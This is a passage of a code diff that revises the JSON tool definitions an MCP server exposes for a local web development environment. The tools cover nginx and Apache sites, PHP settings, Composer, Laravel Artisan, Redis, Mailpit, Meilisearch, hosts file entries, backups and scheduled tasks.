+                    "domain": { "type": "string", "description": "Site domain" }
+                },
+                "required": ["domain"]
+            }
+        },
+        {
+            "name": "update_site",
+            "description": "Change settings of an existing nginx site in place. Only the fields passed change. Updates sites.json, regenerates the site's nginx config from it (hand edits are replaced), issues a certificate when SSL is turned on without one, updates hosts entries for changed aliases, then runs nginx -t and reloads, rolling back on failure.",
+            "inputSchema": {
+                "type": "object",
+                "properties": {
+                    "domain": { "type": "string", "description": "Site domain" },
+                    "path": { "type": "string", "description": "New document root path" },
+                    "aliases": {
+                        "type": "array",
+                        "items": { "type": "string" },
+                        "description": "Replace the site's additional domains (pass [] to remove them all)"
+                    },
+                    "php_version": { "type": "string", "description": "Installed PHP version to serve the site with (PHP sites only)" },
+                    "ssl": { "type": "boolean", "description": "Turn SSL on or off" },
+                    "hsts": { "type": "boolean", "description": "Send a Strict-Transport-Security header on the SSL site" },
+                    "proxy_port": { "type": "number", "description": "Dev server port a reverse-proxy site forwards to (reverse-proxy sites only)" },
+                    "gzip": { "type": "boolean", "description": "Turn gzip compression on or off for the site (unchanged if omitted)" },
+                    "brotli": { "type": "boolean", "description": "Turn brotli compression on or off for the site; only emitted when nginx has the brotli module (unchanged if omitted)" }
                 },
                 "required": ["domain"]
             }
@@ -1539,9 +3945,18 @@ fn handle_tools_list(id: &Value) -> Value {
                 "required": ["domain"]
             }
         },
+        {
+            "name": "regenerate_all_ssl",
+            "description": "Regenerate the mkcert certificate of every SSL-enabled site, e.g. after the mkcert root CA was reinstalled and old certificates are no longer trusted. Sites without SSL are skipped; nginx is reloaded once at the end. Returns per-domain success or error.",
+            "inputSchema": {
+                "type": "object",
+                "properties": {},
+                "required": []
+            }
+        },
         {
             "name": "list_ssl_certs",
-            "description": "List all SSL certificates in the nginx ssl directory.",
+            "description": "List all SSL certificates in the nginx ssl directory with their expiry date (expires_at) and days_remaining.",
             "inputSchema": {
                 "type": "object",
                 "properties": {},
@@ -1574,329 +3989,334 @@ fn handle_tools_list(id: &Value) -> Value {
             }
         },
         {
-            "name": "get_php_config",
-            "description": "Get key PHP configuration values (memory_limit, upload_max_filesize, etc.) from php.ini.",
+            "name": "toggle_xdebug",
+            "description": "Turn Xdebug on or off for a PHP version. Sets zend_extension=xdebug (commented out when disabling), xdebug.mode and xdebug.client_port=9003 under an [xdebug] section of php.ini, keeping a php.ini.bak. Warns if the Xdebug library is missing from the ext/ directory. Restart PHP to apply.",
             "inputSchema": {
                 "type": "object",
                 "properties": {
-                    "version": { "type": "string", "description": "PHP version (e.g., 8.4)" }
+                    "version": { "type": "string", "description": "PHP version (e.g., 8.4)" },
+                    "enabled": { "type": "boolean", "description": "true to load Xdebug, false to comment it out" },
+                    "mode": { "type": "string", "description": "xdebug.mode: debug, develop, off, or a comma-separated list (default: debug when enabling, off when disabling)" }
                 },
-                "required": ["version"]
+                "required": ["version", "enabled"]
             }
         },
         {
-            "name": "set_php_config",
-            "description": "Set a PHP configuration value in php.ini.",
+            "name": "list_apache_modules",
+            "description": "List Apache modules from the LoadModule lines in httpd.conf and whether each is enabled. Pass a site domain to see which modules its vhost requires (e.g., rewrite, proxy_fcgi) and which are missing.",
             "inputSchema": {
                 "type": "object",
                 "properties": {
-                    "version": { "type": "string", "description": "PHP version (e.g., 8.4)" },
-                    "key": { "type": "string", "description": "Config key (e.g., memory_limit, upload_max_filesize)" },
-                    "value": { "type": "string", "description": "Config value (e.g., 256M, 64M)" }
+                    "domain": { "type": "string", "description": "Optional site domain whose Apache vhost should be checked for required modules" }
                 },
-                "required": ["version", "key", "value"]
+                "required": []
             }
         },
-        // ─── Composer ────────────────────────────────────
         {
-            "name": "composer_require",
-            "description": "Install a Composer package in a project.",
+            "name": "toggle_apache_module",
+            "description": "Enable or disable an Apache module by uncommenting/commenting its LoadModule line in httpd.conf. Backs up httpd.conf, validates with httpd -t (restoring on failure) and restarts Apache if it is running.",
             "inputSchema": {
                 "type": "object",
                 "properties": {
-                    "project_path": { "type": "string", "description": "Path to the project directory" },
-                    "package": { "type": "string", "description": "Package name (e.g., laravel/framework)" },
-                    "dev": { "type": "boolean", "description": "Install as dev dependency (default: false)" }
+                    "module": { "type": "string", "description": "Module name (e.g., rewrite, proxy_fcgi, headers, ssl)" },
+                    "enabled": { "type": "boolean", "description": "true to enable, false to disable" }
                 },
-                "required": ["project_path", "package"]
+                "required": ["module", "enabled"]
             }
         },
         {
-            "name": "composer_install",
-            "description": "Run composer install in a project directory.",
+            "name": "get_php_config",
+            "description": "Get key PHP configuration values (memory_limit, upload_max_filesize, etc.) from php.ini.",
             "inputSchema": {
                 "type": "object",
                 "properties": {
-                    "project_path": { "type": "string", "description": "Path to the project directory" }
+                    "version": { "type": "string", "description": "PHP version (e.g., 8.4)" }
                 },
-                "required": ["project_path"]
+                "required": ["version"]
             }
         },
         {
-            "name": "composer_run",
-            "description": "Run a Composer script defined in composer.json.",
+            "name": "set_php_config",
+            "description": "Set a PHP configuration value in php.ini.",
             "inputSchema": {
                 "type": "object",
                 "properties": {
-                    "project_path": { "type": "string", "description": "Path to the project directory" },
-                    "script": { "type": "string", "description": "Script name to run" }
+                    "version": { "type": "string", "description": "PHP version (e.g., 8.4)" },
+                    "key": { "type": "string", "description": "Config key (e.g., memory_limit, upload_max_filesize)" },
+                    "value": { "type": "string", "description": "Config value (e.g., 256M, 64M)" }
                 },
-                "required": ["project_path", "script"]
+                "required": ["version", "key", "value"]
             }
         },
-        // ─── Redis ───────────────────────────────────────
         {
-            "name": "redis_command",
-            "description": "Execute a Redis command via redis-cli.",
+            "name": "get_opcache_stats",
+            "description": "OPcache statistics of a PHP version: hit rate, hits/misses, cached script count and memory usage. Asks the running PHP service over FastCGI, so the numbers are those of the pool serving sites; when PHP isn't running, reports from a fresh CLI process (enabled or not, but no hits or scripts). Errors clearly when OPcache isn't loaded or is disabled.",
             "inputSchema": {
                 "type": "object",
                 "properties": {
-                    "command": { "type": "string", "description": "Redis command (e.g., PING, GET key, SET key value, KEYS *)" }
+                    "version": { "type": "string", "description": "PHP version (e.g., 8.4)" }
                 },
-                "required": ["command"]
+                "required": ["version"]
             }
         },
         {
-            "name": "redis_info",
-            "description": "Get Redis server information (INFO command).",
+            "name": "reset_opcache",
+            "description": "Clear the OPcache of a running PHP version (opcache_reset through its FastCGI server), e.g. after editing code with opcache.validate_timestamps off. A stopped PHP has nothing cached.",
             "inputSchema": {
                 "type": "object",
-                "properties": {},
-                "required": []
+                "properties": {
+                    "version": { "type": "string", "description": "PHP version (e.g., 8.4)" }
+                },
+                "required": ["version"]
             }
         },
-        // ─── Mailpit ────────────────────────────────────
+        // ─── Composer ────────────────────────────────────
         {
-            "name": "list_emails",
-            "description": "List emails captured by Mailpit. Requires Mailpit to be running on port 8025.",
+            "name": "composer_require",
+            "description": "Install a Composer package in a project. Returns JSON with stdout, stderr and exit_code.",
             "inputSchema": {
                 "type": "object",
                 "properties": {
-                    "limit": { "type": "number", "description": "Max emails to return (default: 50)" }
+                    "project_path": { "type": "string", "description": "Path to the project directory" },
+                    "package": { "type": "string", "description": "Package name (e.g., laravel/framework)" },
+                    "dev": { "type": "boolean", "description": "Install as dev dependency (default: false)" }
                 },
-                "required": []
+                "required": ["project_path", "package"]
             }
         },
         {
-            "name": "get_email",
-            "description": "Get a specific email from Mailpit by ID.",
+            "name": "composer_install",
+            "description": "Run composer install in a project directory. Returns JSON with stdout, stderr and exit_code.",
             "inputSchema": {
                 "type": "object",
                 "properties": {
-                    "id": { "type": "string", "description": "Email message ID" }
+                    "project_path": { "type": "string", "description": "Path to the project directory" }
                 },
-                "required": ["id"]
+                "required": ["project_path"]
             }
         },
         {
-            "name": "delete_emails",
-            "description": "Delete all emails in Mailpit.",
+            "name": "composer_run",
+            "description": "Run a Composer script defined in composer.json. Returns JSON with stdout, stderr and exit_code.",
             "inputSchema": {
                 "type": "object",
-                "properties": {},
-                "required": []
+                "properties": {
+                    "project_path": { "type": "string", "description": "Path to the project directory" },
+                    "script": { "type": "string", "description": "Script name to run" }
+                },
+                "required": ["project_path", "script"]
             }
         },
-        // ─── Config Files ────────────────────────────────
         {
-            "name": "read_config",
-            "description": "Read a service configuration file. Types: nginx, apache, mariadb, php.",
+            "name": "composer_outdated",
+            "description": "List a project's packages with newer versions available (composer outdated). Read-only. Returns composer's JSON report: installed packages with version, latest, latest-status and description.",
             "inputSchema": {
                 "type": "object",
                 "properties": {
-                    "type": { "type": "string", "description": "Config type: nginx, apache, mariadb, php" },
-                    "php_version": { "type": "string", "description": "PHP version (required when type is php)" }
+                    "project_path": { "type": "string", "description": "Path to the project directory" }
                 },
-                "required": ["type"]
+                "required": ["project_path"]
             }
         },
         {
-            "name": "write_config",
-            "description": "Write a service configuration file. Creates a .bak backup first. Types: nginx, apache, mariadb, php.",
+            "name": "composer_show",
+            "description": "Show details of an installed package (composer show): version, source, license, autoload and requirements. Read-only. Returns composer's JSON output.",
             "inputSchema": {
                 "type": "object",
                 "properties": {
-                    "type": { "type": "string", "description": "Config type: nginx, apache, mariadb, php" },
-                    "content": { "type": "string", "description": "New config file content" },
-                    "php_version": { "type": "string", "description": "PHP version (required when type is php)" }
+                    "project_path": { "type": "string", "description": "Path to the project directory" },
+                    "package": { "type": "string", "description": "Package name (e.g., guzzlehttp/guzzle)" }
                 },
-                "required": ["type", "content"]
+                "required": ["project_path", "package"]
             }
         },
         {
-            "name": "read_site_config",
-            "description": "Read the nginx or apache vhost config for a specific site domain.",
+            "name": "composer_why",
+            "description": "Show which packages depend on a package and why it is installed (composer why). Read-only. Returns JSON with stdout, stderr and exit_code.",
             "inputSchema": {
                 "type": "object",
                 "properties": {
-                    "domain": { "type": "string", "description": "Site domain" }
+                    "project_path": { "type": "string", "description": "Path to the project directory" },
+                    "package": { "type": "string", "description": "Package name (e.g., psr/log)" }
                 },
-                "required": ["domain"]
+                "required": ["project_path", "package"]
             }
         },
+        // ─── Node Scripts ────────────────────────────────
         {
-            "name": "write_site_config",
-            "description": "Write a site's nginx config. Runs nginx -t to validate, rolls back on failure.",
+            "name": "npm_run",
+            "description": "Run a script from package.json (build, lint, test...) with the project's package manager, picked from its lockfile (bun.lockb/bun.lock, pnpm-lock.yaml, yarn.lock, else npm) unless package_manager is given. Uses Orbit's bin/nodejs or bin/bun. Waits for the script to exit, so use start_site_app for dev servers. Returns JSON with the combined output and exit_code.",
             "inputSchema": {
                 "type": "object",
                 "properties": {
-                    "domain": { "type": "string", "description": "Site domain" },
-                    "content": { "type": "string", "description": "New nginx config content" }
+                    "project_path": { "type": "string", "description": "Path to the project directory (containing package.json)" },
+                    "script": { "type": "string", "description": "Script name to run" },
+                    "package_manager": { "type": "string", "enum": ["npm", "yarn", "pnpm", "bun"], "description": "Override the lockfile detection" }
                 },
-                "required": ["domain", "content"]
+                "required": ["project_path", "script"]
             }
         },
-        // ─── Batch Operations ────────────────────────────
+        // ─── Laravel Artisan ─────────────────────────────
         {
-            "name": "start_all_services",
-            "description": "Start all installed server services (nginx, php, mariadb, redis, apache, mailpit, meilisearch, postgresql, mongodb).",
+            "name": "artisan_migrate",
+            "description": "Run pending Laravel migrations (php artisan migrate) in a Laravel site's project root with the site's PHP. Returns JSON with stdout, stderr and exit_code.",
             "inputSchema": {
                 "type": "object",
-                "properties": {},
-                "required": []
+                "properties": {
+                    "domain": { "type": "string", "description": "Site domain (must be a Laravel project with an artisan file)" }
+                },
+                "required": ["domain"]
             }
         },
         {
-            "name": "stop_all_services",
-            "description": "Stop all running server services.",
+            "name": "artisan_migrate_fresh",
+            "description": "Drop all tables and re-run every Laravel migration (php artisan migrate:fresh), optionally seeding. Destroys the site's database data. Returns JSON with stdout, stderr and exit_code.",
             "inputSchema": {
                 "type": "object",
-                "properties": {},
-                "required": []
+                "properties": {
+                    "domain": { "type": "string", "description": "Site domain (must be a Laravel project with an artisan file)" },
+                    "seed": { "type": "boolean", "description": "Run database seeders afterwards (default: false)" }
+                },
+                "required": ["domain"]
             }
         },
-        // ─── Hosts File ──────────────────────────────────
         {
-            "name": "hosts_list",
-            "description": "List all entries in the system hosts file. Shows IP and domain mappings.",
+            "name": "artisan_tinker",
+            "description": "Evaluate a PHP expression inside a Laravel app (php artisan tinker --execute). Returns JSON with stdout, stderr and exit_code.",
             "inputSchema": {
                 "type": "object",
-                "properties": {},
-                "required": []
+                "properties": {
+                    "domain": { "type": "string", "description": "Site domain (must be a Laravel project with an artisan file)" },
+                    "expr": { "type": "string", "description": "PHP code to run, e.g. \"echo App\\Models\\User::count();\"" }
+                },
+                "required": ["domain", "expr"]
             }
         },
         {
-            "name": "hosts_add",
-            "description": "Add a domain to the hosts file pointing to 127.0.0.1. Requires admin/elevated privileges.",
+            "name": "artisan_route_list",
+            "description": "List a Laravel app's routes (php artisan route:list --json). stdout holds the routes as JSON.",
             "inputSchema": {
                 "type": "object",
                 "properties": {
-                    "domain": { "type": "string", "description": "Domain to add (e.g., myapp.test)" }
+                    "domain": { "type": "string", "description": "Site domain (must be a Laravel project with an artisan file)" }
                 },
                 "required": ["domain"]
             }
         },
         {
-            "name": "hosts_remove",
-            "description": "Remove a domain from the hosts file. Requires admin/elevated privileges.",
+            "name": "artisan_cache_clear",
+            "description": "Flush a Laravel app's application cache (php artisan cache:clear). Returns JSON with stdout, stderr and exit_code.",
             "inputSchema": {
                 "type": "object",
                 "properties": {
-                    "domain": { "type": "string", "description": "Domain to remove" }
+                    "domain": { "type": "string", "description": "Site domain (must be a Laravel project with an artisan file)" }
                 },
                 "required": ["domain"]
             }
         },
-        // ─── Database Export/Import ──────────────────────
+        // ─── Redis ───────────────────────────────────────
         {
-            "name": "db_export",
-            "description": "Export a MariaDB database to a SQL file using mysqldump. Returns the output file path.",
+            "name": "redis_command",
+            "description": "Execute a Redis command via redis-cli.",
             "inputSchema": {
                 "type": "object",
                 "properties": {
-                    "database": { "type": "string", "description": "Database name to export" },
-                    "output": { "type": "string", "description": "Output file path (default: <database>.sql in current dir)" }
+                    "command": { "type": "string", "description": "Redis command (e.g., PING, GET key, SET key value, KEYS *)" }
                 },
-                "required": ["database"]
+                "required": ["command"]
             }
         },
         {
-            "name": "db_import",
-            "description": "Import a SQL file into a MariaDB database.",
+            "name": "redis_info",
+            "description": "Get Redis server information (INFO command).",
             "inputSchema": {
                 "type": "object",
-                "properties": {
-                    "database": { "type": "string", "description": "Target database name" },
-                    "file": { "type": "string", "description": "Path to the SQL file to import" }
-                },
-                "required": ["database", "file"]
+                "properties": {},
+                "required": []
             }
         },
-        // ─── Log Management ─────────────────────────────
         {
-            "name": "clear_log",
-            "description": "Clear a log file (truncate to empty).",
+            "name": "redis_scan",
+            "description": "List keys matching a pattern in one Redis database using SCAN (safe on large databases, unlike KEYS). 'complete' is false when more keys may match.",
             "inputSchema": {
                 "type": "object",
                 "properties": {
-                    "name": { "type": "string", "description": "Log name (e.g., nginx/access.log, php-8.4/php_errors.log)" }
+                    "pattern": { "type": "string", "description": "Glob pattern (default: *), e.g. laravel_cache:*" },
+                    "db": { "type": "number", "description": "Logical database index (default: 0)" },
+                    "count": { "type": "number", "description": "Max keys to return (default: 100, max: 10000)" }
                 },
-                "required": ["name"]
+                "required": []
             }
         },
-        // ─── Service Install/Uninstall ──────────────────
         {
-            "name": "install_service",
-            "description": "Install a service from the Orbit registry. Downloads and extracts the service binary. Supported: nginx, php, mariadb, postgresql, mongodb, redis, nodejs, python, bun, deno, go, apache, mailpit, meilisearch, composer, rust.",
+            "name": "redis_flushdb",
+            "description": "Delete every key in one Redis database (FLUSHDB). The database index must be given explicitly. Irreversible.",
             "inputSchema": {
                 "type": "object",
                 "properties": {
-                    "service": { "type": "string", "description": "Service to install (e.g., nginx, php, mariadb, redis)" },
-                    "version": { "type": "string", "description": "Version to install (e.g., 8.4 for PHP). Uses latest if omitted." }
+                    "db": { "type": "number", "description": "Logical database index to flush" }
                 },
-                "required": ["service"]
+                "required": ["db"]
             }
         },
+        // ─── Mailpit ────────────────────────────────────
         {
-            "name": "uninstall_service",
-            "description": "Uninstall a service by removing its directory. Stops the service first if running.",
+            "name": "list_emails",
+            "description": "List emails captured by Mailpit. Requires Mailpit to be running on port 8025.",
             "inputSchema": {
                 "type": "object",
                 "properties": {
-                    "service": { "type": "string", "description": "Service to uninstall (e.g., nginx, mariadb, php-8.4)" }
+                    "limit": { "type": "number", "description": "Max emails to return (default: 50)" }
                 },
-                "required": ["service"]
+                "required": []
             }
         },
-        // ─── AI Diagnostics ────────────────────────────────
         {
-            "name": "diagnose_service",
-            "description": "Run a comprehensive health check on a service. Checks binary existence, port status, process state, config validation, and error logs. Returns status (healthy/degraded/down/not_installed), issues, suggestions, and details.",
+            "name": "send_test_email",
+            "description": "Send a plain-text test email through Mailpit's SMTP listener (127.0.0.1:1025) and return the captured message ID. Use it to confirm Mailpit is catching mail. Requires Mailpit to be running.",
             "inputSchema": {
                 "type": "object",
                 "properties": {
-                    "name": { "type": "string", "description": "Service name (e.g., nginx, php-8.4, mariadb, redis, postgresql)" }
+                    "to": { "type": "string", "description": "Recipient address (default: test@orbit.test)" },
+                    "subject": { "type": "string", "description": "Subject line (default: Orbit test email)" },
+                    "body": { "type": "string", "description": "Plain-text body" }
                 },
-                "required": ["name"]
+                "required": []
             }
         },
         {
-            "name": "diagnose_site",
-            "description": "Run a health check on a local development site. Checks site config, web server status, PHP version, hosts entry, SSL certs, and reachability.",
+            "name": "get_email",
+            "description": "Get a specific email from Mailpit by ID.",
             "inputSchema": {
                 "type": "object",
                 "properties": {
-                    "domain": { "type": "string", "description": "Site domain (e.g., myapp.test)" }
+                    "id": { "type": "string", "description": "Email message ID" }
                 },
-                "required": ["domain"]
+                "required": ["id"]
             }
         },
         {
-            "name": "analyze_logs",
-            "description": "Analyze log files for error patterns. Groups errors by frequency, provides known solutions for common issues (502 Bad Gateway, Permission denied, PHP Fatal, etc.).",
+            "name": "delete_emails",
+            "description": "Delete all emails in Mailpit.",
             "inputSchema": {
                 "type": "object",
-                "properties": {
-                    "service": { "type": "string", "description": "Service name to analyze logs for. If omitted, analyzes all available logs." },
-                    "lines": { "type": "number", "description": "Number of lines to analyze from each log (default: 200)" },
-                    "severity": { "type": "string", "description": "Minimum severity: error, warning, all (default: error)" }
-                },
+                "properties": {},
                 "required": []
             }
         },
+        // ─── Meilisearch ────────────────────────────────
         {
-            "name": "get_health_report",
-            "description": "Generate a comprehensive system health report. Checks all services, port conflicts, disk usage, site issues, large log files, and calculates a health score (0-100).",
+            "name": "meili_status",
+            "description": "Get Meilisearch health, version, database size and index count. Requires Meilisearch to be running on port 7700.",
             "inputSchema": {
                 "type": "object",
                 "properties": {},
                 "required": []
             }
         },
-        // ─── Blueprint System ──────────────────────────────
         {
-            "name": "list_blueprints",
-            "description": "List all available project blueprints. Blueprints define a complete project setup: required services, site template, and scaffold commands.",
+            "name": "meili_list_indexes",
+            "description": "List Meilisearch indexes with their primary key and document count.",
             "inputSchema": {
                 "type": "object",
                 "properties": {},
@@ -1904,89 +4324,93 @@ fn handle_tools_list(id: &Value) -> Value {
             }
         },
         {
-            "name": "get_blueprint",
-            "description": "Get detailed information about a specific blueprint including required services, template, scaffold commands, and PHP extensions.",
+            "name": "meili_search",
+            "description": "Search a Meilisearch index and return the raw search response (hits, estimatedTotalHits, processingTimeMs).",
             "inputSchema": {
                 "type": "object",
                 "properties": {
-                    "name": { "type": "string", "description": "Blueprint name (e.g., laravel-vite, nextjs-fullstack, django)" }
+                    "index": { "type": "string", "description": "Index uid" },
+                    "query": { "type": "string", "description": "Search query (empty matches all documents)" },
+                    "limit": { "type": "number", "description": "Max hits to return (default: 20)" }
                 },
-                "required": ["name"]
+                "required": ["index"]
             }
         },
+        // ─── Config Files ────────────────────────────────
         {
-            "name": "create_from_blueprint",
-            "description": "Create a complete project from a blueprint. Validates required services, starts them, creates a site with the correct template, runs scaffold commands, adds hosts entry, generates SSL if needed, and writes .env file. One-click project setup.",
+            "name": "read_config",
+            "description": "Read a service configuration file. Types: nginx, apache, mariadb, php.",
             "inputSchema": {
                 "type": "object",
                 "properties": {
-                    "blueprint": { "type": "string", "description": "Blueprint name (e.g., laravel-vite, django, nextjs-fullstack)" },
-                    "domain": { "type": "string", "description": "Domain name (e.g., myapp.test)" },
-                    "path": { "type": "string", "description": "Project directory path" },
-                    "php_version": { "type": "string", "description": "PHP version override (default: 8.4)" }
+                    "type": { "type": "string", "description": "Config type: nginx, apache, mariadb, php" },
+                    "php_version": { "type": "string", "description": "PHP version (required when type is php)" }
                 },
-                "required": ["blueprint", "domain", "path"]
+                "required": ["type"]
             }
         },
         {
-            "name": "start_site_app",
-            "description": "Start a site's development server using its configured dev_command. Only works for sites that have a dev_command set (typically from blueprint creation). The process runs in the background.",
+            "name": "write_config",
+            "description": "Write a service configuration file. Creates a .bak backup first. Types: nginx, apache, mariadb, php.",
             "inputSchema": {
                 "type": "object",
                 "properties": {
-                    "domain": { "type": "string", "description": "Site domain (e.g., myapp.test)" }
+                    "type": { "type": "string", "description": "Config type: nginx, apache, mariadb, php" },
+                    "content": { "type": "string", "description": "New config file content" },
+                    "php_version": { "type": "string", "description": "PHP version (required when type is php)" }
                 },
-                "required": ["domain"]
+                "required": ["type", "content"]
             }
         },
         {
-            "name": "stop_site_app",
-            "description": "Stop a site's development server that was previously started with start_site_app.",
+            "name": "read_site_config",
+            "description": "Read the nginx or apache vhost config for a specific site domain.",
             "inputSchema": {
                 "type": "object",
                 "properties": {
-                    "domain": { "type": "string", "description": "Site domain (e.g., myapp.test)" }
+                    "domain": { "type": "string", "description": "Site domain" }
                 },
                 "required": ["domain"]
             }
         },
-        // ─── MongoDB ──────────────────────────────────────
         {
-            "name": "mongo_list_databases",
-            "description": "List all MongoDB databases. Requires MongoDB to be running.",
+            "name": "write_site_config",
+            "description": "Write a site's nginx config. Runs nginx -t to validate, rolls back on failure.",
             "inputSchema": {
                 "type": "object",
-                "properties": {},
-                "required": []
+                "properties": {
+                    "domain": { "type": "string", "description": "Site domain" },
+                    "content": { "type": "string", "description": "New nginx config content" }
+                },
+                "required": ["domain", "content"]
             }
         },
         {
-            "name": "mongo_list_collections",
-            "description": "List all collections in a MongoDB database.",
+            "name": "format_nginx_config",
+            "description": "Format and lint nginx config text without writing anything: re-indents with 4 spaces per block, collapses blank-line runs, and warns about missing semicolons, unbalanced braces and duplicate server_name entries. Returns JSON with the formatted config and warnings. Use before write_site_config.",
             "inputSchema": {
                 "type": "object",
                 "properties": {
-                    "database": { "type": "string", "description": "Database name" }
+                    "content": { "type": "string", "description": "nginx config text" }
                 },
-                "required": ["database"]
+                "required": ["content"]
             }
         },
+        // ─── Batch Operations ────────────────────────────
         {
-            "name": "mongo_execute",
-            "description": "Execute a JavaScript command in a MongoDB database via mongosh. Queries are executed directly — use caution with destructive operations.",
+            "name": "start_all_services",
+            "description": "Start all installed server services (nginx, php, mariadb, redis, apache, mailpit, meilisearch, postgresql, mongodb). Runs a preflight first (config tests, data dirs, port conflicts) and starts nothing if any service fails it, unless skip_failing is set. Starts mailpit and redis first, then databases, then PHP (waiting for it to listen), then nginx/apache; steps are reported in that order.",
             "inputSchema": {
                 "type": "object",
                 "properties": {
-                    "database": { "type": "string", "description": "Database name" },
-                    "command": { "type": "string", "description": "JavaScript command to execute (e.g., 'db.users.find({})' or 'db.stats()')" }
+                    "skip_failing": { "type": "boolean", "description": "Start the services that pass preflight and skip the rest (default: false)" }
                 },
-                "required": ["database", "command"]
+                "required": []
             }
         },
-        // Deploy tools
         {
-            "name": "deploy_list_connections",
-            "description": "List all global server connections (SSH/FTP). These are shared across sites.",
+            "name": "preflight_check",
+            "description": "Readiness report for starting all services: validates nginx/Apache config, MariaDB/PostgreSQL data directories and port availability without starting anything.",
             "inputSchema": {
                 "type": "object",
                 "properties": {},
@@ -1994,39 +4418,594 @@ fn handle_tools_list(id: &Value) -> Value {
             }
         },
         {
-            "name": "deploy_test_connection",
-            "description": "Test a server connection by attempting to authenticate. Returns success message or error details.",
+            "name": "stop_all_services",
+            "description": "Stop all running server services.",
             "inputSchema": {
                 "type": "object",
-                "properties": {
-                    "connection_name": { "type": "string", "description": "Connection name" }
-                },
-                "required": ["connection_name"]
+                "properties": {},
+                "required": []
             }
         },
         {
-            "name": "deploy_ssh_execute",
-            "description": "Execute a remote command via SSH on a server connection. Returns command output.",
+            "name": "get_pending_restarts",
+            "description": "List services whose config was changed (php.ini, my.ini, nginx.conf, ...) since they were last started. Restart running ones to apply the changes.",
             "inputSchema": {
                 "type": "object",
-                "properties": {
-                    "connection_name": { "type": "string", "description": "Connection name" },
-                    "command": { "type": "string", "description": "Shell command to execute on remote server" }
-                },
-                "required": ["connection_name", "command"]
+                "properties": {},
+                "required": []
             }
         },
         {
-            "name": "deploy_sync",
-            "description": "Deploy site files to remote server via SFTP/FTP. Uses blake3 hashing for diff-based sync — only changed files are uploaded.",
+            "name": "apply_changes",
+            "description": "Make pending config changes live: restarts only the services flagged by get_pending_restarts (nginx is reloaded, others fully restarted) in dependency order, then clears the flags.",
             "inputSchema": {
                 "type": "object",
-                "properties": {
-                    "domain": { "type": "string", "description": "Site domain" },
-                    "connection_name": { "type": "string", "description": "Connection name" }
-                },
-                "required": ["domain", "connection_name"]
-            }
+                "properties": {},
+                "required": []
+            }
+        },
+        // ─── Hosts File ──────────────────────────────────
+        {
+            "name": "hosts_list",
+            "description": "List all entries in the system hosts file. Shows IP and domain mappings.",
+            "inputSchema": {
+                "type": "object",
+                "properties": {},
+                "required": []
+            }
+        },
+        {
+            "name": "hosts_add",
+            "description": "Map a domain to 127.0.0.1 and ::1 in the hosts file (IPv6 can be turned off with { \"ipv6\": false } in config/hosts.json). An existing line for the domain is updated rather than duplicated. Requires admin/elevated privileges.",
+            "inputSchema": {
+                "type": "object",
+                "properties": {
+                    "domain": { "type": "string", "description": "Domain to add (e.g., myapp.test)" }
+                },
+                "required": ["domain"]
+            }
+        },
+        {
+            "name": "hosts_remove",
+            "description": "Remove every hosts file line for a domain, whatever address it points to. Requires admin/elevated privileges.",
+            "inputSchema": {
+                "type": "object",
+                "properties": {
+                    "domain": { "type": "string", "description": "Domain to remove" }
+                },
+                "required": ["domain"]
+            }
+        },
+        {
+            "name": "hosts_restore",
+            "description": "Restore the hosts file from the most recent backup. Orbit backs the hosts file up (config/hosts-backups/hosts.orbit-<timestamp>.bak, last 5 kept) before its first change in a session, and backs up the current file before restoring. Requires admin/elevated privileges.",
+            "inputSchema": {
+                "type": "object",
+                "properties": {},
+                "required": []
+            }
+        },
+        // ─── Database Connectivity ───────────────────────
+        {
+            "name": "ping_database",
+            "description": "Check that a database server accepts queries with Orbit's configured credentials (config/db.json) before running real ones. Runs SELECT 1 (MariaDB, PostgreSQL) or a ping command (MongoDB) and returns { reachable, latency_ms, version }. latency_ms includes starting the database client.",
+            "inputSchema": {
+                "type": "object",
+                "properties": {
+                    "engine": { "type": "string", "description": "Database engine: mariadb, postgresql or mongodb" }
+                },
+                "required": ["engine"]
+            }
+        },
+        // ─── Database Export/Import ──────────────────────
+        {
+            "name": "db_export",
+            "description": "Export a MariaDB database to a SQL file using mysqldump. Returns the output file path.",
+            "inputSchema": {
+                "type": "object",
+                "properties": {
+                    "database": { "type": "string", "description": "Database name to export" },
+                    "output": { "type": "string", "description": "Output file path (default: <database>.sql in current dir)" }
+                },
+                "required": ["database"]
+            }
+        },
+        {
+            "name": "db_import",
+            "description": "Import a SQL file into a MariaDB database.",
+            "inputSchema": {
+                "type": "object",
+                "properties": {
+                    "database": { "type": "string", "description": "Target database name" },
+                    "file": { "type": "string", "description": "Path to the SQL file to import" }
+                },
+                "required": ["database", "file"]
+            }
+        },
+        // ─── Environment Backup ─────────────────────────
+        {
+            "name": "create_backup",
+            "description": "Back up the Orbit environment to a zip: everything in config/ (sites.json, db.json, deploy settings, ...) plus optionally the data directories of stopped database services. Returns the archive path and entry count.",
+            "inputSchema": {
+                "type": "object",
+                "properties": {
+                    "output_path": { "type": "string", "description": "Path of the zip file to write" },
+                    "include_data": {
+                        "type": "array",
+                        "items": { "type": "string" },
+                        "description": "Data directories under bin/data to include (e.g., [\"mariadb\", \"postgres\"]). Their services must be stopped."
+                    }
+                },
+                "required": ["output_path"]
+            }
+        },
+        {
+            "name": "restore_backup",
+            "description": "Restore an Orbit environment backup made by create_backup. The archive is validated first; existing files are only overwritten with force.",
+            "inputSchema": {
+                "type": "object",
+                "properties": {
+                    "archive_path": { "type": "string", "description": "Path to the backup zip" },
+                    "force": { "type": "boolean", "description": "Overwrite existing files (default: false)" }
+                },
+                "required": ["archive_path"]
+            }
+        },
+        // ─── Log Management ─────────────────────────────
+        {
+            "name": "clear_log",
+            "description": "Clear a log file (truncate to empty).",
+            "inputSchema": {
+                "type": "object",
+                "properties": {
+                    "name": { "type": "string", "description": "Log name (e.g., nginx/access.log, php-8.4/php_errors.log)" }
+                },
+                "required": ["name"]
+            }
+        },
+        {
+            "name": "rotate_log",
+            "description": "Rotate a log file: the current log becomes <name>.1, older copies shift up, the live file starts empty and copies beyond 'keep' are deleted. nginx is told to reopen its logs. Use it on logs the health report flags as oversized.",
+            "inputSchema": {
+                "type": "object",
+                "properties": {
+                    "name": { "type": "string", "description": "Log name (e.g., nginx/access.log, php-8.4/php_errors.log)" },
+                    "keep": { "type": "number", "description": "Rotated copies to keep (default: 5, at most 100)" }
+                },
+                "required": ["name"]
+            }
+        },
+        // ─── Scheduled Tasks ────────────────────────────
+        {
+            "name": "add_scheduled_task",
+            "description": "Run a command on a fixed interval for a site, like cron (e.g. 'php artisan schedule:run' every 60 seconds for Laravel's scheduler). Re-adding a name updates it. Tasks run while Orbit is open or on each 'orbit-cli cron run'; a run is skipped while the previous one is still going. Output goes to logs/cron/<name>.log.",
